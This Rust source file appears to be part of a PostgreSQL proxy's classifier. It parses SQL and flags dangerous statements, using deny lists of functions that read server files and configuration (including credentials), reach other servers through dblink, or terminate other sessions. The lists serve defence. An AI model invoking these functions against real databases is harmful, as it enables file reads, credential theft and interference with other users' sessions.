//! Understands a SQL text before it is decided: parses it with sqlparser's
//! PostgreSQL dialect into statements, and for each finds its kind, the
//! tables it reads and writes, and the dangerous things it does. The policy
//! decides on this, never on the raw text.

use std::{
    collections::{BTreeSet, HashMap},
    ops::ControlFlow,
};

use sqlparser::{
    ast::{
        CopySource, CopyTarget, Expr, FromTable, FunctionArg, FunctionArgExpr, FunctionArguments,
        ObjectName, ObjectType, Query, Set, SetExpr, Statement, TableFactor, TableObject, Visit,
        Visitor,
    },
    dialect::PostgreSqlDialect,
    keywords::Keyword,
    parser::Parser,
    tokenizer::{Location, Token, TokenWithSpan, Tokenizer, Whitespace},
};

use super::lexical;

use crate::policy::{Danger, Operation, RunByName, StatementKind, UNKNOWN_TABLES};

/// Functions that read or write server files, run programs, reach other
/// servers, or change settings (search_path, role) behind the policy's back.
const DANGEROUS_FUNCTIONS: &[&str] = &[
    "pg_read_file",
    "pg_read_binary_file",
    "pg_ls_dir",
    // The server's own directories: log, WAL, temporary files, archive
    // status, logical decoding and replication slots.
    "pg_ls_logdir",
    "pg_ls_waldir",
    "pg_ls_tmpdir",
    "pg_ls_archive_statusdir",
    "pg_ls_logicalsnapdir",
    "pg_ls_logicalmapdir",
    "pg_ls_replslotdir",
    "pg_stat_file",
    // PG 18's WAL summaries directory, and adminpack's log listing.
    "pg_ls_summariesdir",
    "pg_logdir_ls",
    // The functions behind the views of the server's configuration files
    // (SERVER_FILE_VIEWS), called as functions.
    "pg_hba_file_rules",
    "pg_show_all_file_settings",
    "pg_ident_file_mappings",
    "pg_file_write",
    "lo_import",
    "lo_export",
    "dblink",
    "dblink_exec",
    "dblink_connect",
    "dblink_connect_u",
    "dblink_send_query",
    "dblink_get_result",
    "dblink_open",
    "dblink_fetch",
    "dblink_build_sql_insert",
    "dblink_build_sql_update",
    "dblink_build_sql_delete",
    "pg_file_unlink",
    "pg_file_rename",
    "pg_file_sync",
    "set_config",
    "pg_reload_conf",
    // Every agent's upstream session logs in as the same role, which may
    // signal any of them: these would reach other identities' statements.
    "pg_terminate_backend",
    "pg_cancel_backend",
];

/// Built-in functions that change the database or the server's state
/// (sequences, large objects, notifications, other sessions, locks,
/// replication, WAL, statistics): a SELECT calling one is a write, so a
/// grant of reads alone refuses it and it is never forwarded before its
/// record is durable. Functions of the database's own (`app.purge()`)
/// cannot be known from the text; see docs/policy.md.
const STATE_CHANGING_FUNCTIONS: &[&str] = &[
    "nextval",
    "setval",
    "lo_create",
    "lo_creat",
    "lo_import",
    "lo_unlink",
    "lo_from_bytea",
    "lo_put",
    "lo_truncate",
    "lo_truncate64",
    "lowrite",
    "lo_open",
    "pg_notify",
    "pg_advisory_lock",
    "pg_advisory_lock_shared",
    "pg_advisory_xact_lock",
    "pg_advisory_xact_lock_shared",
    "pg_try_advisory_lock",
    "pg_try_advisory_lock_shared",
    "pg_try_advisory_xact_lock",
    "pg_try_advisory_xact_lock_shared",
    "pg_advisory_unlock",
    "pg_advisory_unlock_shared",
    "pg_advisory_unlock_all",
    "pg_rotate_logfile",
    "pg_switch_wal",
    "pg_create_restore_point",
    "pg_backup_start",
    "pg_backup_stop",
    // Their names up to PostgreSQL 14.
    "pg_start_backup",
    "pg_stop_backup",
    "pg_log_standby_snapshot",
    // PostgreSQL 18: planner statistics written or cleared by hand.
    "pg_restore_relation_stats",
    "pg_restore_attribute_stats",
    "pg_clear_relation_stats",
    "pg_clear_attribute_stats",
    "pg_stat_reset_backend_stats",
    "pg_promote",
    "pg_logical_emit_message",
    "pg_create_physical_replication_slot",
    "pg_create_logical_replication_slot",
    "pg_drop_replication_slot",
    "pg_copy_physical_replication_slot",
    "pg_copy_logical_replication_slot",
    "pg_replication_slot_advance",
    "pg_replication_origin_create",
    "pg_replication_origin_drop",
    "pg_stat_reset",
    "pg_stat_reset_shared",
    "pg_stat_reset_single_table_counters",
    "pg_stat_reset_single_function_counters",
    "pg_stat_reset_slru",
    "pg_stat_reset_replication_slot",
    "pg_stat_reset_subscription_stats",
    "pg_import_system_collations",
    "pg_nextoid",
    "txid_current",
    "pg_current_xact_id",
    "brin_summarize_new_values",
    "brin_summarize_range",
    "brin_desummarize_range",
    "gin_clean_pending_list",
    "pg_replication_origin_advance",
    "pg_replication_origin_session_setup",
    "pg_replication_origin_session_reset",
    "pg_replication_origin_xact_setup",
    "pg_replication_origin_xact_reset",
    "pg_wal_replay_pause",
    "pg_wal_replay_resume",
    "pg_log_backend_memory_contexts",
    "pg_sync_replication_slots",
    "pg_stat_statements_reset",
    // Contrib: statistics and caches reset or dropped by hand.
    "pg_stat_monitor_reset",
    "pg_qualstats_reset",
    "pg_buffercache_evict",
    "pg_buffercache_evict_relation",
    "pg_buffercache_evict_all",
    "pg_prewarm",
    "autoprewarm_start_worker",
    "autoprewarm_dump_now",
    "pg_truncate_visibility_map",
    // pg_surgery: rows of a table (named as a regclass) killed or frozen.
    "heap_force_kill",
    "heap_force_freeze",
];

/// Of [`STATE_CHANGING_FUNCTIONS`], those that change rows of a table
/// their argument names: they write the unknown tables (`?`).
const TABLE_ROW_CHANGERS: &[&str] = &["heap_force_kill", "heap_force_freeze"];

/// Functions that run SQL handed to them as text (or name a table as
/// text): the tables that SQL reads are invisible to the policy, so a
/// statement calling one is not understood.
const SQL_TEXT_FUNCTIONS: &[&str] = &[
    "query_to_xml",
    "query_to_xmlschema",
    "query_to_xml_and_xmlschema",
    "cursor_to_xml",
    "cursor_to_xmlschema",
    "table_to_xml",
    "table_to_xmlschema",
    "table_to_xml_and_xmlschema",
    "schema_to_xml",
    "schema_to_xmlschema",
    "schema_to_xml_and_xmlschema",
    "database_to_xml",
    "database_to_xmlschema",
    "database_to_xml_and_xmlschema",
    "ts_stat",
    "ts_rewrite",
    // Logical decoding returns the changed rows of every table.
    "pg_logical_slot_peek_changes",
    "pg_logical_slot_peek_binary_changes",
    "pg_logical_slot_get_changes",
    "pg_logical_slot_get_binary_changes",
    // pg_walinspect returns the WAL's records, the raw bytes of every
    // table's changed rows and whole page images among them.
    "pg_get_wal_block_info",
    "pg_get_wal_record_info",
    "pg_get_wal_records_info",
    "pg_get_wal_records_info_till_end_of_wal",
    "pg_get_wal_stats",
    "pg_get_wal_stats_till_end_of_wal",
    // pageinspect reads raw pages of a table named as text.
    "get_raw_page",
    "heap_page_items",
    "tuple_data_split",
    "heap_page_item_attrs",
    "bt_page_items",
    // tablefunc and xml2, where installed.
    "crosstab",
    "crosstab2",
    "crosstab3",
    "crosstab4",
    "connectby",
    "xpath_table",
    // dblink runs the SQL it is given (on any server, this one included)
    // and builds statements from a table named as text with its row's
    // values: `file_or_program_function` too, for the connection.
    "dblink",
    "dblink_exec",
    "dblink_send_query",
    "dblink_open",
    "dblink_fetch",
    "dblink_get_result",
    "dblink_build_sql_insert",
    "dblink_build_sql_update",
    "dblink_build_sql_delete",
];

/// Built-in functions that write large objects, whose data is in
/// `pg_catalog.pg_largeobject`: a call writes that table, whose rules hold.
const LARGE_OBJECT_WRITERS: &[&str] = &[
    "lo_create",
    "lo_creat",
    "lo_import",
    "lo_unlink",
    "lo_put",
    "lo_from_bytea",
    "lo_truncate",
    "lo_truncate64",
    "lowrite",
];

/// Built-in functions that advance or set the sequence named by their
/// first argument: a call writes that sequence.
const SEQUENCE_WRITERS: &[&str] = &["nextval", "setval"];

/// Functions that return a server file's bytes: the files of every table
/// (`base/16384/16390` is a table's heap) among them, so a call reads
/// tables the text does not name.
const RAW_FILE_FUNCTIONS: &[&str] = &["pg_read_file", "pg_read_binary_file"];

/// Catalog views, and the tables under them, that show sampled values
/// (most common values, histogram bounds) of every table's columns:
/// reading one is reading every table the database role may analyse,
/// which no table rule could check. (The tables are readable by a
/// superuser only; tollgate's upstream role may be one.)
const SAMPLE_VIEWS: &[&str] = &[
    "pg_catalog.pg_stats",
    "pg_catalog.pg_stats_ext",
    "pg_catalog.pg_stats_ext_exprs",
    "pg_catalog.pg_statistic",
    "pg_catalog.pg_statistic_ext_data",
];

/// Catalog views that show server configuration files, line by line:
/// pg_hba.conf's options (an LDAP bind password among them), every line of
/// postgresql.conf and its includes, pg_ident.conf. Reading one reads a
/// server file, as pg_read_file does.
const SERVER_FILE_VIEWS: &[&str] = &[
    "pg_catalog.pg_hba_file_rules",
    "pg_catalog.pg_file_settings",
    "pg_catalog.pg_ident_file_mappings",
];

/// Whether `name` (schema.table) is in a TOAST schema: a TOAST table holds
/// the large values of another table's columns (pg_statistic's sampled
/// values among them) under a name of its own, which no table rule or
/// mask pattern names. Readable by a superuser only; tollgate's upstream
/// role may be one.
fn is_toast_table(name: &str) -> bool {
    let schema = name.split('.').next().unwrap_or_default();
    schema == "pg_toast" || schema.starts_with("pg_toast_temp_")
}

/// Views and functions that show the statements other sessions run, their
/// literals included: every agent's upstream session logs in as the same
/// role, so reading one is reading what other identities sent, masked
/// values among it. Matched by their last name part (pg_stat_statements
/// lives in the schema its extension was installed in).
const OTHER_SESSIONS_VIEWS: &[&str] = &[
    "pg_stat_activity",
    "pg_stat_get_activity",
    "pg_stat_get_backend_activity",
    "pg_stat_statements",
    "pg_stat_monitor",
    "pg_stat_monitor_internal",
    "pg_show_plans",
    "pg_store_plans",
    "pg_qualstats",
    "pg_qualstats_example_queries",
    "pg_qualstats_example_query",
];

/// Whether a relation name (`schema.name`, as `table_names` gives it) is
/// one of [`OTHER_SESSIONS_VIEWS`].
fn shows_other_sessions(name: &str) -> bool {
    let last = name.rsplit_once('.').map_or(name, |(_, last)| last);
    OTHER_SESSIONS_VIEWS.contains(&last)
}

/// Built-in functions without side effects: a read calling only these is
/// still provably read-only (its answer may be computed while its audit
/// record syncs). Anything else, a user-defined function included, may write.
const PURE_FUNCTIONS: &[&str] = &[
    "count",
    "sum",
    "avg",
    "min",
    "max",
    "bool_and",
    "bool_or",
    "array_agg",
    "string_agg",
    "upper",
    "lower",
    "length",
    "char_length",
    "substring",
    "substr",
    "trim",
    "btrim",
    "ltrim",
    "rtrim",
    "concat",
    "concat_ws",
    "replace",
    "left",
    "right",
    "position",
    "coalesce",
    "nullif",
    "greatest",
    "least",
    "abs",
    "round",
    "floor",
    "ceil",
    "ceiling",
    "trunc",
    "mod",
    "now",
    "current_date",
    "current_timestamp",
    "date_trunc",
    "date_part",
    "extract",
    "to_char",
    "to_date",
    "to_timestamp",
    "age",
    "md5",
];

/// Built-in functions that tell about the server, the session or the
/// catalog, never a user table's rows: a call of one does not make a
/// masked caller's computed columns suspect (`SELECT version()`).
const CATALOG_INFO_FUNCTIONS: &[&str] = &[
    "version",
    "current_schema",
    "current_schemas",
    "current_database",
    "current_catalog",
    "current_user",
    "session_user",
    "current_role",
    "current_setting",
    "inet_server_addr",
    "inet_server_port",
    "pg_backend_pid",
    "pg_postmaster_start_time",
    "format_type",
    "pg_get_expr",
    "pg_get_userbyid",
    "pg_get_indexdef",
    "pg_get_constraintdef",
    "pg_get_viewdef",
    "pg_get_functiondef",
    "pg_get_function_arguments",
    "pg_get_function_result",
    "pg_get_triggerdef",
    "pg_get_serial_sequence",
    "pg_table_is_visible",
    "pg_type_is_visible",
    "pg_function_is_visible",
    "obj_description",
    "col_description",
    "shobj_description",
    "pg_encoding_to_char",
    "has_table_privilege",
    "has_schema_privilege",
    "has_column_privilege",
    "has_database_privilege",
    "pg_relation_size",
    "pg_total_relation_size",
    "pg_size_pretty",
    "array_to_string",
    "array_length",
    "unnest",
    "generate_series",
    "to_json",
    "json_build_object",
    "jsonb_build_object",
    "row_number",
    "rank",
    "dense_rank",
];

/// Schema assumed for unqualified table names (the default search_path).
/// Changing search_path is itself an `admin` statement, so a role limited to
/// reads cannot make an unqualified name point elsewhere.
const DEFAULT_SCHEMA: &str = "public";

/// Parses `sql` into its statements, one [`Operation`] each: tables are
/// schema-qualified and folded to lower case unless quoted. `Err` carries
/// the parser's message.
pub fn classify(sql: &str) -> Result<Vec<Operation>, String> {
    let dialect = PostgreSqlDialect {};
    let tokens = Tokenizer::new(&dialect, sql)
        .tokenize_with_location()
        .map_err(|err| err.to_string())?;
    reads_as_postgresql_does(tokens.iter().map(|t| &t.token))?;
    nests_within_the_stack(tokens.iter().map(|t| &t.token))?;
    let postgres = lexical::scan(sql)
        .ok_or("the text ends inside a string, quoted name, dollar quote or comment")?;
    if parser_opaque_starts(sql, &tokens) != postgres.opaque_starts {
        return Err(
            "PostgreSQL would read the strings, quoted names or comments of this text \
             differently from the parser: not sent, since the server would run something \
             else than what was decided"
                .into(),
        );
    }
    // Operators are judged as PostgreSQL's scanner cuts them: the parser
    // cuts some runs elsewhere (`a =~ b` as `a = ~b`), names some after
    // other databases' (`<=>`) and reads `==` as `=`.
    let databases_own_operator = postgres
        .operators
        .iter()
        .any(|op| !is_built_in_operator(op));
    let mut parser = Parser::new(&dialect).with_tokens_with_locations(tokens);
    let statements = parser.parse_statements().map_err(|err| err.to_string())?;
    // The parser stops without an error at an END after a whole statement
    // (`SELECT *, 1 END FROM t`, where PostgreSQL reads `end` as an alias):
    // whatever it left unread is what the server would also run.
    let rest = parser.peek_token();
    if rest.token != Token::EOF {
        return Err(format!(
            "the parser stopped at `{}` (line {}, column {}) before the end of the text",
            rest.token, rest.span.start.line, rest.span.start.column
        ));
    }
    if postgres.statements != statements.len() {
        return Err(format!(
            "PostgreSQL would read this text as {} statement(s), the parser as {}: \
             not sent, since the server would run something else than what was decided",
            postgres.statements,
            statements.len()
        ));
    }
    // The backstop of `nests_within_the_stack`: the walk that classifies
    // measures the depth too; it grows its own stack, but dropping the
    // tree does not.
    let (operations, deepest): (Vec<_>, Vec<_>) = statements.iter().map(classify_statement).unzip();
    if deepest.into_iter().max().unwrap_or(0) > MAX_EXPRESSION_DEPTH {
        drop_on_a_deep_stack(statements);
        return Err(format!(
            "expressions or set operations nested more than {MAX_EXPRESSION_DEPTH} deep: \
             too deep to classify"
        ));
    }
    let mut operations: Vec<Operation> = operations.into_iter().collect::<Result<_, _>>()?;
    if databases_own_operator {
        for op in &mut operations {
            op.calls_functions = true;
            op.calls_unknown_functions = true;
        }
    }
    Ok(operations)
}

/// At most how many tokens sqlparser's tokenizer makes of `sql`, whatever
/// it makes of its strings and comments, which is what parsing costs
/// (the tokens, then the tree built from them): every ASCII byte other
/// than a letter, digit or `_` may be a token of its own (whitespace is
/// one token per character, `$1` two), and a run of letters, digits, `_`
/// and characters outside ASCII (all of which the PostgreSQL dialect takes
/// into names) is at most a number and a word (`12ab34`, `0xFFg`), so it
/// counts two. Strings and comments are weighed like the rest: where they
/// are is what the parser decides.
pub fn token_bound(sql: &str) -> usize {
    let in_run = |b: u8| b.is_ascii_alphanumeric() || b == b'_' || !b.is_ascii();
    let mut tokens = 0usize;
    let mut prev = b' ';
    for &b in sql.as_bytes() {
        tokens += match (in_run(b), in_run(prev)) {
            (true, false) => 2,
            (true, true) => 0,
            (false, _) => 1,
        };
        prev = b;
    }
    tokens
}

/// Expression nesting the classifier walks and drops on a runtime thread.
/// The token pass before parsing keeps chains well below it; a tree deeper
/// than this got past that pass and is refused. (In a debug build a chain
/// of 16 000 levels was walked and dropped within 2 MiB of stack; runtime
/// threads have 16 MiB.)
const MAX_EXPRESSION_DEPTH: usize = 8_000;

/// The deepest chain of set operations in `body`, walked with a list
/// instead of recursion. (A parenthesised query in it is a query of its
/// own, measured when the walk reaches it.)
fn set_operation_depth(body: &SetExpr) -> usize {
    let mut deepest = 0;
    let mut to_visit = vec![(body, 1usize)];
    while let Some((expr, depth)) = to_visit.pop() {
        deepest = deepest.max(depth);
        if let SetExpr::SetOperation { left, right, .. } = expr {
            to_visit.push((left, depth + 1));
            to_visit.push((right, depth + 1));
        }
    }
    deepest
}

/// Drops a syntax tree too deep to drop on a runtime thread (dropping
/// recurses once per level) on one long-lived thread whose stack is
/// reserved large enough for any tree a statement tollgate takes can
/// build. A few trees may wait for it; a caller past them waits its turn.
/// If that thread cannot be made, the tree is leaked rather than the
/// daemon ended.
fn drop_on_a_deep_stack(statements: Vec<Statement>) {
    type Trees = std::sync::mpsc::SyncSender<Vec<Statement>>;
    static DROPPER: std::sync::OnceLock<Option<Trees>> = std::sync::OnceLock::new();
    let dropper = DROPPER.get_or_init(|| {
        let (sender, trees) = std::sync::mpsc::sync_channel::<Vec<Statement>>(4);
        std::thread::Builder::new()
            .name("deep-tree-drop".into())
            .stack_size(1 << 30)
            .spawn(move || {
                for tree in trees {
                    drop(tree);
                }
            })
            .ok()
            .map(|_| sender)
    });
    match dropper {
        Some(sender) => {
            if let Err(unsent) = sender.send(statements) {
                std::mem::forget(unsent.0);
            }
        }
        None => std::mem::forget(statements),
    }
}

/// Byte offsets where the tokenizer's strings, quoted identifiers and
/// comments start, to compare with PostgreSQL's (see [`lexical::scan`]).
/// Token locations are lines and columns (in characters, a line ending at
/// `\n`); they come in order, so one walk over the text converts them all.
fn parser_opaque_starts(sql: &str, tokens: &[TokenWithSpan]) -> Vec<usize> {
    let mut chars = sql.char_indices().peekable();
    let (mut line, mut column) = (1u64, 1u64);
    let mut starts = Vec::new();
    for token in tokens.iter().filter(|t| is_opaque(&t.token)) {
        let Location {
            line: want_line,
            column: want_column,
        } = token.span.start;
        while (line, column) < (want_line, want_column) {
            match chars.next() {
                Some((_, '\n')) => {
                    line += 1;
                    column = 1;
                }
                Some(_) => column += 1,
                None => break,
            }
        }
        // A location past the text cannot match PostgreSQL's: usize::MAX
        // makes the comparison fail.
        starts.push(match chars.peek() {
            Some(&(at, _)) if (line, column) == (want_line, want_column) => at,
            _ => usize::MAX,
        });
    }
    starts
}

/// A string literal of any form, a quoted identifier, or a comment.
fn is_opaque(token: &Token) -> bool {
    match token {
        Token::Word(word) => word.quote_style.is_some(),
        Token::Whitespace(
            Whitespace::SingleLineComment { .. } | Whitespace::MultiLineComment(_),
        ) => true,
        Token::SingleQuotedString(_)
        | Token::DoubleQuotedString(_)
        | Token::TripleSingleQuotedString(_)
        | Token::TripleDoubleQuotedString(_)
        | Token::DollarQuotedString(_)
        | Token::SingleQuotedByteStringLiteral(_)
        | Token::DoubleQuotedByteStringLiteral(_)
        | Token::TripleSingleQuotedByteStringLiteral(_)
        | Token::TripleDoubleQuotedByteStringLiteral(_)
        | Token::SingleQuotedRawStringLiteral(_)
        | Token::DoubleQuotedRawStringLiteral(_)
        | Token::TripleSingleQuotedRawStringLiteral(_)
        | Token::TripleDoubleQuotedRawStringLiteral(_)
        | Token::NationalStringLiteral(_)
        | Token::QuoteDelimitedStringLiteral(_)
        | Token::NationalQuoteDelimitedStringLiteral(_)
        | Token::EscapedStringLiteral(_)
        | Token::UnicodeStringLiteral(_)
        | Token::HexStringLiteral(_) => true,
        _ => false,
    }
}

/// Tokens that may lie on one path from the statement down (see
/// [`nests_within_the_stack`]). A tree of 10 000 such tokens, at most
/// 5 000 levels (`1+1+...`), is walked and dropped within 2 MiB of stack
/// in a debug build (measured: `a = 1 AND ...` of 16 000 levels passed,
/// 32 000 overflowed); runtime threads have eight times that
/// ([`crate::proxy::RUNTIME_THREAD_STACK_BYTES`]).
const MAX_TOKENS_ON_A_PATH: usize = 10_000;

/// What one set operation counts for on a path: each level of a chain of
/// them costs the walk far more stack than an operator's (in a debug
/// build, 2 000 `UNION`s passed in 2 MiB and 3 000 overflowed), so at
/// most 1 250 fit the bound.
const SET_OPERATION_WEIGHT: usize = 8;

/// JOINs nested without parentheses (`a JOIN b JOIN c ON p ON q`). The
/// parser reads each such level by calling itself, with a large frame
/// and no bound of its own: in a debug build 60 of them overflowed 2 MiB
/// of stack (30 passed). A JOIN with its ON or USING right after its
/// table, the way queries are written, nests nothing.
const MAX_NESTED_JOINS: usize = 16;

/// Refuses text whose syntax tree could be too deep to walk. The parser
/// bounds nesting (parentheses, prefix operators), but it builds a chain
/// of infix operators (`1+1+...`, `a AND b AND ...`) or of set operations
/// (`SELECT 1 UNION SELECT 2 UNION ...`) in a loop, one level per link,
/// and walking that tree, like dropping it, recurses once per level: a
/// few hundred kilobytes of such a chain would overflow the stack and end
/// the whole daemon, every session with it. JOINs nested without
/// parentheses make the parser itself recurse (see [`MAX_NESTED_JOINS`]).
///
/// Within one pair of brackets, or one `CASE ... END`, an operator chain
/// cannot pass a comma (a comma separates list items, each its own tree)
/// nor a CASE's WHEN, THEN or ELSE (its branches are a list too), so the
/// tokens since the last of those bound its levels; a set operation's
/// operands hold commas of their own (select lists), so set operations
/// are counted apart and a comma does not forget them. The counts of
/// every level open at a point bound the depth there.
fn nests_within_the_stack<'a>(tokens: impl Iterator<Item = &'a Token>) -> Result<(), String> {
    #[derive(Default)]
    struct Level {
        /// Opened by CASE (closed by END), not by a bracket.
        case: bool,
        since_separator: usize,
        set_operations: usize,
        /// A JOIN whose ON or USING has not come yet, and how many JOINs
        /// came while one had not.
        join_without_constraint: bool,
        nested_joins: usize,
        /// The last JOIN keyword belongs to a CROSS or NATURAL join, which
        /// the parser does not nest.
        cross_or_natural: bool,
    }
    let too_deep = |what: &str| Err(format!("{what}: too deep to classify"));
    let mut levels = vec![Level::default()];
    let mut on_path = 0usize;
    // A keyword is a name after `.` (`s.when`, `t.end`), `::` or AS (a
    // label): it must open, close or reset nothing there, or a chain of
    // such names would pass uncounted.
    let mut names_a_thing = false;
    for token in tokens {
        if matches!(token, Token::Whitespace(_)) {
            continue;
        }
        let keyword = match token {
            Token::Word(word) if word.quote_style.is_none() && !names_a_thing => Some(word.keyword),
            _ => None,
        };
        names_a_thing =
            matches!(token, Token::Period | Token::DoubleColon) || keyword == Some(Keyword::AS);
        match (token, keyword) {
            (Token::Comma, _) => {
                if let Some(level) = levels.last_mut() {
                    on_path -= std::mem::take(&mut level.since_separator);
                }
                continue;
            }
            (Token::SemiColon, _) if levels.len() == 1 => {
                // A statement of its own starts: nothing carries over.
                levels[0] = Level::default();
                on_path = 0;
                continue;
            }
            (_, Some(Keyword::WHEN | Keyword::THEN | Keyword::ELSE))
                if levels.last().is_some_and(|l| l.case) =>
            {
                if let Some(level) = levels.last_mut() {
                    on_path -= std::mem::take(&mut level.since_separator);
                }
                continue;
            }
            (Token::RParen | Token::RBracket | Token::RBrace, _) | (_, Some(Keyword::END))
                if levels.len() > 1
                    && levels
                        .last()
                        .is_some_and(|l| l.case == (keyword == Some(Keyword::END))) =>
            {
                if let Some(level) = levels.pop() {
                    if level.case {
                        // A CASE holds no set operation of its own (a
                        // subquery in it is bracketed): one counted in it
                        // is the parser's, around it (`FROM case ...
                        // UNION ... FROM end`), and stays on the path.
                        if let Some(parent) = levels.last_mut() {
                            parent.set_operations += level.set_operations;
                        }
                        on_path -= level.since_separator;
                    } else {
                        on_path -= level.since_separator + level.set_operations;
                    }
                }
                continue;
            }
            _ => {}
        }
        let is_set_operation = matches!(
            keyword,
            Some(Keyword::UNION | Keyword::INTERSECT | Keyword::EXCEPT | Keyword::MINUS)
        );
        let weight = if is_set_operation {
            SET_OPERATION_WEIGHT
        } else {
            1
        };
        if let Some(level) = levels.last_mut() {
            if is_set_operation {
                level.set_operations += weight;
            } else {
                // An opening bracket or CASE counts here, in the run it
                // continues (`f(...)`, `a[1][2]`), before it opens a level
                // of its own.
                level.since_separator += weight;
            }
            match keyword {
                Some(Keyword::CROSS | Keyword::NATURAL) => level.cross_or_natural = true,
                Some(Keyword::JOIN) if std::mem::take(&mut level.cross_or_natural) => {}
                Some(Keyword::JOIN) => {
                    if level.join_without_constraint {
                        level.nested_joins += 1;
                        if level.nested_joins > MAX_NESTED_JOINS {
                            return too_deep(&format!(
                                "more than {MAX_NESTED_JOINS} JOINs nested without parentheses"
                            ));
                        }
                    }
                    level.join_without_constraint = true;
                }
                Some(Keyword::ON | Keyword::USING) => level.join_without_constraint = false,
                _ => {}
            }
        }
        on_path += weight;
        if on_path > MAX_TOKENS_ON_A_PATH {
            return too_deep(&format!(
                "more than {MAX_TOKENS_ON_A_PATH} tokens in one chain of operators or set operations"
            ));
        }
        if matches!(token, Token::LParen | Token::LBracket | Token::LBrace) {
            levels.push(Level::default());
        } else if keyword == Some(Keyword::CASE) {
            levels.push(Level {
                case: true,
                ..Level::default()
            });
        }
    }
    Ok(())
}

/// Refuses tokens the comparison of opaque starts cannot see: a `$` that
/// is no parameter (PostgreSQL rejects it), and lines the tokenizer takes
/// as inline COPY data. (An operator running into `--` or `/*` needs no
/// rule here: PostgreSQL's comment start falls inside the tokenizer's
/// operator, so the starts differ.)
fn reads_as_postgresql_does<'a>(tokens: impl Iterator<Item = &'a Token>) -> Result<(), String> {
    for token in tokens {
        match token {
            Token::Placeholder(p)
                if p.starts_with('$')
                    && (p.len() == 1 || !p[1..].bytes().all(|b| b.is_ascii_digit())) =>
            {
                return Err(format!(
                    "`{p}` is read differently by PostgreSQL (a dollar quote or a lone `$`)"
                ));
            }
            // The tokenizer takes the lines after `COPY ... FROM STDIN;`
            // as the copy's data; PostgreSQL never reads data from a
            // query string and runs those lines as SQL once the copy ends.
            Token::CopyData { .. } => {
                return Err(
                    "text after COPY ... FROM STDIN in the same query: PostgreSQL would run it as SQL"
                        .into(),
                );
            }
            _ => {}
        }
    }
    Ok(())
}

/// The statement's classification, and how deeply its expressions or
/// chains of set operations nest (past [`MAX_EXPRESSION_DEPTH`], the walk
/// stopped there and the classification is not to be used).
fn classify_statement(statement: &Statement) -> (Result<Operation, String>, usize) {
    let mut walker = Walker::default();
    let _ = statement.visit(&mut walker);
    let depth = walker.deepest;
    let kind = top_kind(statement);
    let mut out = Operation {
        kind,
        // ALTER FUNCTION too: renamed, an existing function takes a name
        // the session did not know it by.
        defines_routine: matches!(
            statement,
            Statement::CreateFunction(_)
                | Statement::CreateProcedure { .. }
                | Statement::CreateOperator(_)
                | Statement::CreateAggregate(_)
                | Statement::AlterFunction(_)
                | Statement::AlterOperator(_)
        ),
        moves_names: moves_names(statement) || walker.moves_names,
        copies_into_settings: walker.copies_into_settings,
        runs_by_name: std::mem::take(&mut walker.runs_by_name),
        may_call_by_name: std::mem::take(&mut walker.may_call_by_name),
        dangers: walker.dangers,
        streams_raw: matches!(statement, Statement::Copy { to: true, .. }),
        calls_functions: walker.calls_functions,
        calls_unknown_functions: walker.calls_unknown_functions,
        // Rows of a cursor declared earlier, a statement prepared in SQL,
        // a procedure: whatever they read is not in this text.
        // EXPLAIN ANALYZE EXECUTE runs one too, inside the text.
        opaque_result: matches!(
            statement,
            Statement::Fetch { .. } | Statement::Execute { .. } | Statement::Call(_)
        ) || walker.runs_prepared,
        ends_transaction: matches!(
            statement,
            Statement::Commit { .. } | Statement::Rollback { .. }
        ) || kind == StatementKind::Admin, // CALL among them: a procedure may commit
        renames_protocol_objects: matches!(
            statement,
            Statement::Declare { .. }
                | Statement::Close { .. }
                | Statement::Prepare { .. }
                | Statement::Deallocate { .. }
                | Statement::Discard { .. }
        ),
        changes_text_encoding: walker.changes_encoding
            || matches!(statement, Statement::Set(set) if set_changes_encoding(set)),
        turns_off_standard_strings: walker.turns_off_standard_strings
            || matches!(statement, Statement::Set(set) if set_turns_off_standard_strings(set)),
        takes_client_data: matches!(
            statement,
            Statement::Copy {
                to: false,
                target: CopyTarget::Stdin,
                ..
            }
        ),
        ..Operation::default()
    };
    // What built-in calls write counts whether the statement runs them now
    // or stores them (a column default's `nextval`, which every later
    // INSERT runs without naming the sequence): `write_tables` and
    // `deny_tables` hold for it at the statement that names it. Only the
    // statements that run them need `write` as a kind (`modifies_data`).
    let called = std::mem::take(&mut walker.called_writes);
    out.written_by_calls = called
        .iter()
        .filter(|name| !walker.written.contains(*name))
        .cloned()
        .collect();
    walker.written.extend(called);
    // Nested data-modifying statements (WITH x AS (DELETE ...), EXPLAIN
    // ANALYZE UPDATE ...), SELECT INTO anywhere in a query, and row locks
    // (which need UPDATE privilege and change the rows' headers) make the
    // whole statement a write.
    if (!walker.written.is_empty() || walker.locks_rows || walker.changes_state)
        && out.kind < StatementKind::Write
    {
        out.kind = StatementKind::Write;
    }
    // Whatever its kind (`CREATE TABLE ... AS WITH d AS (DELETE ...)` is
    // DDL), a statement that changes rows as it runs needs writes allowed
    // too; a default, a view's query or a routine's body is only stored.
    out.modifies_data = (walker.modifies_data || walker.locks_rows || walker.changes_state)
        && runs_its_expressions(statement);
    // EXPLAIN ANALYZE EXECUTE runs a prepared statement too.
    if walker.runs_prepared {
        out.kind = StatementKind::Admin;
    }
    let also_read = |name: &String| {
        walker.read_also.contains(name)
            || walker.relation_visits.get(name).copied().unwrap_or(0)
                > walker.target_visits.get(name).copied().unwrap_or(0)
    };
    out.reads = walker
        .relations
        .iter()
        .filter(|name| !walker.written.contains(*name) || also_read(name))
        .cloned()
        .collect();
    out.writes = walker.written;
    match walker.not_understood {
        Some(why) => (Err(why), depth),
        None => (Ok(out), depth),
    }
}

/// A table list entry for every table of the schema `name`: `schema.*`.
fn every_table_of(name: &ObjectName) -> String {
    let schema = name
        .0
        .last()
        .and_then(|part| part.as_ident())
        .map(|ident| name_part(&fold(&ident.value, ident.quote_style.is_some())))
        .unwrap_or_default();
    match schema.is_empty() {
        true => UNKNOWN_TABLES.into(),
        false => format!("{schema}.*"),
    }
}

/// Whether the statement may run the queries and expressions in it, now
/// or when something plainly read later runs them: all but a column
/// default, which runs only under an INSERT or UPDATE (themselves writes).
/// So a new table's defaults and checks (it has no rows yet) and `ALTER
/// ... SET DEFAULT` / `DROP DEFAULT` do not; a view's query and a
/// routine's body do (a later SELECT runs them), and so do CREATE TABLE
/// AS (unless WITH NO DATA), a partition's bounds and any other change
/// of a table (a new column's default and a USING run for every row).
fn runs_its_expressions(statement: &Statement) -> bool {
    use sqlparser::ast::{AlterColumnOperation, AlterTableOperation};
    match statement {
        Statement::CreateTable(create) => {
            let fills =
                create.query.is_some() && create.with_data.as_ref().is_none_or(|with| with.data);
            fills || create.for_values.is_some()
        }
